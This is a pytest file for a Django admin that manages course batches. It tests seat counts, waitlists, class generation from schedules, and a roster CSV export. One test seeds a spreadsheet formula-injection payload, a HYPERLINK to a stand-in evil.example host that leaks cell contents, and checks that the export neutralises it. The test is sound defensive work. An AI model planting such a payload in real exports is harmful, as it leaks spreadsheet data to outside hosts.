"""The back office's "Batches" (docs/product.md section 20): the list with seats taken and
left, waitlist and next class; the batch form with the spec's labels, whose classes are
made from the schedule; "Add missing classes" after a change of dates; the batch's page
(students, classes, waitlist) and its roster CSV."""

from __future__ import annotations

import csv
import html
import io
import re
from datetime import date, datetime, timedelta

import pytest
import time_machine
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.contrib.messages import get_messages
from django.test import Client

from catalog.models import Batch, Course
from core.dates import INDIA
from enrolments import services as enrolments
from teaching import services
from teaching.models import LiveClass, WaitlistEntry
from teaching.tests.conftest import BEFORE, MONDAY, confirmed, enrol_in, make_batch

pytestmark = pytest.mark.django_db

LIST = "/admin/catalog/batch/"
ADD = "/admin/catalog/batch/add/"
SPEC_LABELS = (
    "Course",
    "Start date",
    "End date",
    "Class days",
    "Class time",
    "Doubt session day",
    "Seats",
    "Enrolment closes",
    "Meeting link",
)


@pytest.fixture(autouse=True)
def _before_the_batch() -> object:
    with time_machine.travel(BEFORE, tick=False) as traveller:
        yield traveller


def page(batch: Batch) -> str:
    return f"/admin/catalog/batch/{batch.pk}/change/"


def said(response: object) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]  # type: ignore[attr-defined]


def text(response: object) -> str:
    """The page's words, without its markup."""
    body = response.content.decode()  # type: ignore[attr-defined]
    return html.unescape(" ".join(re.sub(r"<[^>]+>", " ", body).split()))


def form_data(course: Course, **overrides: str) -> dict[str, str]:
    data = {
        "course": str(course.pk),
        "starts_on": "07 Dec 2026",
        "ends_on": "20 Dec 2026",
        "class_days": "Mon/Wed/Fri",
        "class_time": "9:00 PM - 11:00 PM",
        "doubt_session_day": "Sunday",
        "seats": "2",
        "enrolment_closes_on": "",
        "meeting_link": "https://meet.example/abc-defg-hij",
    }
    data.update(overrides)
    return data


def test_it_keeps_learners_out(learner_client: Client) -> None:
    assert learner_client.get(LIST).status_code == 302


def test_the_list_shows_seats_taken_and_left_the_waitlist_and_the_next_class(
    office: Client, course: Course
) -> None:
    full = make_batch(course, seats=2)
    services.batch_classes_make(batch=full)
    enrol_in(course, 1, batch_id=full.pk)
    confirmed(enrol_in(course, 2, batch_id=full.pk))
    WaitlistEntry.objects.create(course=course, batch=full, name="Wait One", phone="+919811100001")
    WaitlistEntry.objects.create(course=course, name="Wait Any", phone="+919811100002")
    later = make_batch(course, starts_on=MONDAY + timedelta(days=28), ends_on=date(2027, 1, 31))

    response = office.get(LIST)

    assert response.status_code == 200
    rows = {
        row: text_of_row
        for row, text_of_row in (
            (full.pk, _row(response, full)),
            (later.pk, _row(response, later)),
        )
    }
    assert "2 of 2" in rows[full.pk] and "Full" in rows[full.pk]
    assert "7 Dec 2026, 21:00" in rows[full.pk]  # the next class
    assert " 2 " in f" {rows[full.pk]} "  # its own waiting and the course's
    assert "No limit" in rows[later.pk] and "Open until 4 Jan 2027" in rows[later.pk]


def _row(response: object, batch: Batch) -> str:
    body = response.content.decode()  # type: ignore[attr-defined]
    rows = re.findall(r"<tr[^>]*>.*?</tr>", body, flags=re.S)
    mine = [row for row in rows if f"/admin/catalog/batch/{batch.pk}/change/" in row]
    assert mine, f"no row for batch {batch.pk}"
    return html.unescape(" ".join(re.sub(r"<[^>]+>", " ", mine[0]).split()))


def test_the_state_filter_finds_full_and_open_batches(office: Client, course: Course) -> None:
    full = make_batch(course, seats=1)
    enrol_in(course, 1, batch_id=full.pk)
    open_batch = make_batch(course, starts_on=MONDAY + timedelta(days=7))

    full_page = office.get(LIST, {"state": "full"}).content.decode()
    open_page = office.get(LIST, {"state": "open"}).content.decode()

    assert page(full) in full_page and page(open_batch) not in full_page
    assert page(open_batch) in open_page and page(full) not in open_page


def test_the_batch_form_has_the_spec_labels_and_clear_help(office: Client, course: Course) -> None:
    response = office.get(ADD)

    labels = [
        " ".join(re.sub(r"<[^>]+>", " ", label).split()).rstrip(" *:")
        for label in re.findall(r"<label[^>]*>(.*?)</label>", response.content.decode(), re.S)
    ]
    for label in SPEC_LABELS:
        assert label in labels, labels
    words = text(response)
    assert "Leave empty for no limit." in words
    assert "Saving a new batch makes its classes from these dates, days and time" in words


def test_the_change_form_names_the_courses_days_and_time(office: Client, course: Course) -> None:
    course.days, course.timing, course.doubt_session = "Tue/Thu", "7:00 PM - 9:00 PM", "Saturday"
    course.save()
    batch = make_batch(course)

    words = text(office.get(page(batch)))

    assert "Leave empty for the course's days: Tue/Thu." in words
    assert "Leave empty for the course's time: 7:00 PM - 9:00 PM." in words


def test_adding_a_batch_makes_its_classes_and_says_how_many(office: Client, course: Course) -> None:
    response = office.post(ADD, form_data(course))

    assert response.status_code == 302, text(response)
    batch = Batch.objects.get()
    # Mon/Wed/Fri of two weeks, and the two Sundays' doubt sessions.
    assert batch.classes.count() == 8
    assert batch.classes.filter(kind=LiveClass.Kind.DOUBT).count() == 2
    assert (
        "8 classes made from the schedule (Mon/Wed/Fri, 9:00 PM - 11:00 PM; doubt sessions on "
        "Sunday), 7 Dec 2026 to 20 Dec 2026. Open the batch to see them, or to move, cancel "
        "or add classes." in said(response)
    )
    first = batch.classes.order_by("starts_at").first()
    assert first is not None
    assert first.starts_at == datetime(2026, 12, 7, 21, 0, tzinfo=INDIA)


def test_a_batch_whose_schedule_does_not_read_is_refused_and_nothing_is_made(
    office: Client, course: Course
) -> None:
    response = office.post(ADD, form_data(course, class_days="Someday", class_time="late"))

    assert response.status_code == 200
    words = text(response)
    assert "Write the days as Mon/Wed/Fri" in words
    assert "Write the time as 9:00 PM - 11:00 PM" in words
    assert not Batch.objects.exists() and not LiveClass.objects.exists()


def test_a_change_of_dates_says_what_is_missing_and_the_button_adds_only_that(
    office: Client, course: Course
) -> None:
    batch = make_batch(course)
    services.batch_classes_make(batch=batch)
    moved = batch.classes.order_by("starts_at").first()
    assert moved is not None
    moved.starts_at += timedelta(days=1)
    moved.ends_at += timedelta(days=1)
    moved.save()  # staff moved the first class to the Tuesday

    changed = office.post(page(batch), form_data(course, ends_on="27 Dec 2026"))

    assert changed.status_code == 302, text(changed)
    assert any(
        "The new schedule gives 4 classes the batch does not have yet" in m for m in said(changed)
    )
    step = office.get(f"{page(batch).removesuffix('change/')}add-missing-classes/")
    assert step.status_code == 200
    assert "Adds the 4 classes the batch's dates, days and time give" in text(step)

    done = office.post(f"{page(batch).removesuffix('change/')}add-missing-classes/")

    assert "4 classes added from the schedule." in said(done)
    assert batch.classes.count() == 12  # the moved class was not put back
    again = office.post(f"{page(batch).removesuffix('change/')}add-missing-classes/")
    assert "No class was missing: nothing was added." in said(again)
    assert batch.classes.count() == 12


def test_a_change_of_dates_names_the_classes_left_outside(office: Client, course: Course) -> None:
    batch = make_batch(course)
    services.batch_classes_make(batch=batch)

    changed = office.post(page(batch), form_data(course, ends_on="13 Dec 2026"))

    assert any("4 classes of the batch fall outside its new dates" in m for m in said(changed))


def test_the_list_action_adds_missing_classes(office: Client, course: Course) -> None:
    batch = make_batch(course)

    response = office.post(
        LIST, {"action": "add_missing_classes", ACTION_CHECKBOX_NAME: [batch.pk]}
    )

    assert "8 classes added from the schedules." in said(response)


def test_the_batch_page_shows_its_students_classes_and_waitlist(
    office: Client, course: Course
) -> None:
    batch = make_batch(course, seats=5)
    services.batch_classes_make(batch=batch)
    student = confirmed(enrol_in(course, 1, name="Asha Confirmed", batch_id=batch.pk))
    waiting = enrol_in(course, 2, name="Ravi Waiting", batch_id=batch.pk)
    enrolments.enrolment_submit_utr(
        enrolment=enrol_in(course, 3, name="Kiran Paid"), utr="412345678901"
    )
    WaitlistEntry.objects.create(course=course, name="First Waiting", phone="+919811100001")
    WaitlistEntry.objects.create(
        course=course, batch=batch, name="Second Waiting", phone="+919811100002"
    )

    response = office.get(page(batch))

    assert response.status_code == 200
    words = text(response)
    assert "Students (3)" in words
    assert "Asha Confirmed" in words and "Confirmed" in words
    assert "Ravi Waiting" in words and "Waiting for payment" in words
    assert "Kiran Paid" in words and "Payment submitted" in words
    assert "Attended 0 of 0 classes" in words
    assert "Classes (8)" in words and "7 Dec 2026, 21:00 to 23:00" in words
    assert words.index("First Waiting") < words.index("Second Waiting")
    assert "The one told has a day to enrol before the same seat is offered to the next" in words
    assert "3 of 5 seats taken, 2 left" in words
    assert f"/admin/catalog/batch/{batch.pk}/roster.csv" in response.content.decode()
    assert f"/admin/enrolments/enrolment/{student.pk}/change/" in response.content.decode()
    assert waiting.reference  # on the page by name


def test_the_roster_csv_has_each_student_and_neutralises_formulas(
    office: Client, course: Course
) -> None:
    batch = make_batch(course, enrolment_closes_on=date(2026, 12, 10))
    services.batch_classes_make(batch=batch)
    trap = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    student = confirmed(enrol_in(course, 1, name=trap, batch_id=batch.pk))
    first = batch.classes.order_by("starts_at").first()
    assert first is not None
    with time_machine.travel(datetime(2026, 12, 8, 12, 0, tzinfo=INDIA), tick=False):
        enrol_in(course, 2, name="Ravi Waiting", batch_id=batch.pk)
        services.register_save(live_class=first, present=[student.pk], by=None)
        response = office.get(f"/admin/catalog/batch/{batch.pk}/roster.csv")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="roster-test-web-2026-12-07.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["Name", "Phone", "Email", "Status", "Attendance", "Certificate"]
    assert rows[1:] == [
        [
            "'" + trap,
            "'+919811130001",  # a spreadsheet shows +91..., not a number
            "student1@example.org",
            "Confirmed",
            "Attended 1 of 1 classes",
            "",
        ],
        ["Ravi Waiting", "'+919811130002", "student2@example.org", "Waiting for payment", "", ""],
    ]


def test_the_roster_answers_only_a_get(office: Client, course: Course) -> None:
    batch = make_batch(course)

    assert office.post(f"/admin/catalog/batch/{batch.pk}/roster.csv").status_code == 405
